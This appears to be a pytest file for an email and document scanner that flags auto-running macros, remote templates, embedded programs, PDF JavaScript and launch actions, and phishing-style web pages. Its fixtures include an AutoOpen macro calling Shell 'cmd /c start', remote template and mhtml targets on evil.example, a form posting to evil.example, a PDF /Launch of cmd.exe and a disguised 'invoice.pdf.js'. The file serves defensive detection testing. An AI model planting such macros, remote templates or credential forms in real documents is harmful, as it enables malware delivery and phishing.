"""What in documents acts by itself: macros, scripts, objects, templates from elsewhere.

And the near misses.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import pytest

from oborona.message.documents import macros
from oborona.message.documents.compound_file import CompoundFile
from tests.message.office_files import compound_file, container, macro_project
from tests.message.packing import look, zipped

FILES = Path(__file__).parent / "files"
RUNS = b'Sub AutoOpen()\r\n  Shell "cmd /c start"\r\nEnd Sub\r\n'
HARMLESS = b'Sub say_hello()\r\n  MsgBox "hello"\r\nEnd Sub\r\n'


def package(files: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", **files})


@pytest.mark.parametrize(
    ("main", "kind"), [("WordDocument", "doc"), ("Workbook", "xls"), ("PowerPoint Document", "ppt")]
)
def test_macros_of_binary_documents(main: str, kind: str) -> None:
    plain, findings = look(compound_file({main: b""}), f"a.{kind}")
    assert (plain.kind, plain.macros, findings) == (kind, False, {})
    quiet, findings = look(
        compound_file({main: b"", **macro_project(HARMLESS)}, ("VBA",)), f"a.{kind}"
    )
    assert (quiet.macros, findings) == (True, {"document-macros": f"a.{kind}"})
    loud, findings = look(compound_file({main: b"", **macro_project(RUNS)}, ("VBA",)), f"a.{kind}")
    assert (loud.macros, findings) == (
        True,
        {"document-macros": f"a.{kind}", "document-macros-run": "AutoOpen, Shell"},
    )


def test_macros_of_packages() -> None:
    project = compound_file(macro_project(RUNS), ("VBA",))
    found, findings = look(
        package({"word/document.xml": b"x", "word/vbaProject.bin": project}), "a.docm"
    )
    assert (found.kind, found.macros) == ("docx", True)
    assert findings == {"document-macros": "a.docm", "document-macros-run": "AutoOpen, Shell"}
    found, findings = look(package({"word/document.xml": b"x"}), "a.docx")
    assert (found.kind, found.macros, found.members, findings) == ("docx", False, [], {})
    found, findings = look(
        package({"xl/workbook.xml": b"x", "xl/macrosheets/sheet1.xml": b"x"}), "a.xlsx"
    )
    assert (found.kind, findings) == ("xlsx", {"document-macros": "a.xlsx"})


def test_a_project_that_excel_wrote() -> None:
    octets = (FILES / "vbaProject.bin").read_bytes()
    found, findings = look(octets, "a.bin")
    assert found.macros
    assert findings == {"document-macros": "a.bin"}
    file = CompoundFile(octets)
    # in the mini stream
    (module,) = (stream for stream in file.streams if stream.name == "Module1")
    packed = file.read(module, 1 << 20)
    source = macros.source(packed[packed.find(b"\0Attribut") - 3 :], 1 << 20)
    assert source == (
        b'Attribute VB_Name = "Module1"\r\nSub say_hello()\r\n    MsgBox ("Hello from '
        b'Python!")\r\nEnd Sub\r\n'
    )


def test_source_that_repeats_itself() -> None:
    # the example of MS-OVBA 3.2.3, "maximum compression": one literal and 72 copies of it
    assert macros.source(bytes.fromhex("01 03 B0 02 61 45 00"), 1000) == b"a" * 73
    assert macros.source(container(RUNS * 200), 1 << 20) == RUNS * 200
    assert macros.source(container(RUNS * 200), 100) == (RUNS * 200)[:100]
    assert macros.source(b"\2abc", 100) == b""


def test_excel_4_macro_sheets_and_passwords() -> None:
    def workbook(*records: tuple[int, bytes]) -> bytes:
        return b"".join(
            kind.to_bytes(2, "little") + len(body).to_bytes(2, "little") + body
            for kind, body in records
        )

    begin, end = (0x0809, bytes(16)), (0x0A, b"")
    sheet, macro_sheet = (0x85, bytes(5) + b"\0\1\0a"), (0x85, bytes(4) + b"\1\1\1\0a")
    assert macros.sheets(workbook(begin, sheet, end, macro_sheet)) == (False, False)
    assert macros.sheets(workbook(begin, sheet, macro_sheet, end)) == (True, False)
    assert macros.sheets(workbook(begin, (0x2F, bytes(54)), end)) == (False, True)
    found, findings = look(
        compound_file({"Workbook": workbook(begin, (0x2F, bytes(54)), end)}), "a.xls"
    )
    assert (found.encrypted, findings) == (True, {"document-encrypted": "a.xls"})
    found, findings = look(
        compound_file({"EncryptionInfo": b"", "EncryptedPackage": b""}), "a.docx"
    )
    assert (found.kind, found.encrypted, findings) == (
        "encrypted-office",
        True,
        {"document-encrypted": "a.docx"},
    )
    found, _ = look(compound_file({"WordDocument": bytes(11) + b"\1"}), "a.doc")
    assert found.encrypted


RELATION = (
    '<Relationships><Relationship Id="1" Type="http://x/relationships/{}" Target="{}" '
    'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("kind", "target", "evidence"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "https://evil.example/t.dotm"),
        ("oleObject", "mhtml:http://evil.example/x!", "mhtml:http://evil.example/x!"),
        ("hyperlink", "https://good.example/", None),
        ("attachedTemplate", "file:///C:/Office/Normal.dotm", None),
        ("image", "https://good.example/logo.png", None),
    ],
)
def test_templates_from_elsewhere(kind: str, target: str, evidence: str | None) -> None:
    relations = RELATION.format(kind, target).encode()
    _, findings = look(
        package({"word/document.xml": b"x", "word/_rels/settings.xml.rels": relations}), "a.docx"
    )
    assert findings.get("document-remote") == evidence


def test_a_program_packed_as_an_object_is_a_member() -> None:
    native = bytes(4) + b"\2\0invoice.pdf.js\0C:\\x\\invoice.pdf.js\0"
    found, _ = look(compound_file({"WordDocument": b"", "\1Ole10Native": native}), "a.doc")
    assert [(member.name, member.extension) for member in found.members] == [
        ("invoice.pdf.js", "js")
    ]
    inner = compound_file({"\1Ole10Native": native})
    found, _ = look(
        package({"word/document.xml": b"x", "word/embeddings/oleObject1.bin": inner}), "a.docx"
    )
    assert [member.name for member in found.members] == ["invoice.pdf.js"]


def test_files_in_a_onenote_section() -> None:
    mark = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"
    head = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".ljust(1024, b"\0")
    program = b"MZ\x90\0" + bytes(100)
    found, _ = look(head + mark + len(program).to_bytes(8, "little") + bytes(12) + program, "a.one")
    assert [(member.kind, member.size) for member in found.members] == [("exe", len(program))]


@pytest.mark.parametrize(
    ("body", "finding"),
    [
        (b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>", "document-script"),
        (b"<< /S /J#61vaScript >>", "document-script"),
        (b"<< /S /#4a#61#76#61#53cript>>", "document-script"),
        (b"<< /S /Launch /F (cmd.exe) >>", "document-launch"),
        (b"<< /Type /EmbeddedFile >>", "document-object"),
        (b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\r\n" + zlib.compress(b"<< /S /JavaScript>>"), "document-script"),
        (b"<< /OpenAction [3 0 R /Fit] /Launched (x) /JSON (y) /EmbeddedFiles 3 0 R >>", None),
        (b"<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxxxx", None),
    ],
)  # fmt: skip
def test_pdf(body: bytes, finding: str | None) -> None:
    found, findings = look(b"%PDF-1.7\n1 0 obj " + body + b"\nendobj\n%%EOF", "a.pdf")
    assert found.kind == "pdf"
    assert set(findings) == ({finding} if finding else set())


@pytest.mark.parametrize(
    ("body", "wanted"),
    [
        (b"<html><script>document.write(atob('eA=='))</script>", {"page-script", "page-unpacks"}),
        (b"<svg xmlns='x'><script>location.href = String.fromCharCode(104)</script>", {"page-script", "page-unpacks"}),
        (b"<html><script>let x = atob('eA==')</script>", {"page-script"}),
        (b"<html><p>atob(1) document.write</p>", set()),
        (b"<html><form method=post action='https://evil.example/take'><input name=mail></form>", {"page-form"}),
        (b"<html><form action=/search><input name=q></form><a href=https://a.example>x</a>", set()),
        (b"<html><body onload = 'go()'>", {"page-script"}),
        (b"<html><form><input name=p type='PassWord'></form>", {"page-password"}),
        (b"<html><meta http-equiv='refresh' content='0; url=http://evil.example/'>", {"page-leads-away"}),
        (b"<html><script>window.location.href = 'http://evil.example'</script>", {"page-script", "page-leads-away"}),
        ("\ufeff<html><script>".encode("utf-16-le"), {"page-script"}),
        (b"<html><p>a receipt, <b>onload</b>, passwords and locations</p><input type=text>", set()),
    ],
)  # fmt: skip
def test_pages(body: bytes, wanted: set[str]) -> None:
    found, findings = look(body, "a.html")
    assert found.kind in {"html", "svg"}
    assert set(findings) == wanted


def test_a_page_behind_padding_is_searched() -> None:
    padding = b"<!--" + b"x" * 6_000_000 + b"-->"
    assert look(b"<html>" + padding + b"<input type=password>", "a.html")[1] == {
        "page-password": "a.html"
    }


def test_a_drawing_with_a_script() -> None:
    found, findings = look(
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "a.svg"
    )
    assert (found.kind, findings) == ("svg", {"page-script": "a.svg"})
    assert look(b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>', "a.svg")[1] == {}


def test_rtf_objects() -> None:
    assert look(b"{\\rtf1 {\\object\\objemb\\objupdate{\\*\\objdata 0105}}}", "a.doc")[1] == {
        "document-object": "a.doc"
    }
    assert look(b"{\\rtf1 an object of desire}", "a.rtf")[1] == {}


def test_documents_in_archives_are_looked_into() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "order.doc", compound_file({"WordDocument": b"", **macro_project(RUNS)}, ("VBA",))
        )
        archive.writestr("page.html", b"<html><input type=password>")
    found, findings = look(out.getvalue(), "a.zip")
    assert found.macros
    assert findings == {
        "document-macros": "order.doc", "document-macros-run": "AutoOpen, Shell", "page-password": "page.html"
    }  # fmt: skip
    assert [member.kind for member in found.members] == ["doc", "html"]


def test_what_makes_no_document() -> None:
    assert look(package({"other/x.xml": b"x"}), "a.zip")[0].kind == "package"
    for names, kind in (
        (["META-INF/MANIFEST.MF", "a.class"], "jar"),
        (["AndroidManifest.xml"], "apk"),
        (["mimetype", "content.xml"], "opendocument"),
    ):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name in names:
                archive.writestr(name, b"x")
        assert look(out.getvalue(), "a.bin")[0].kind == kind
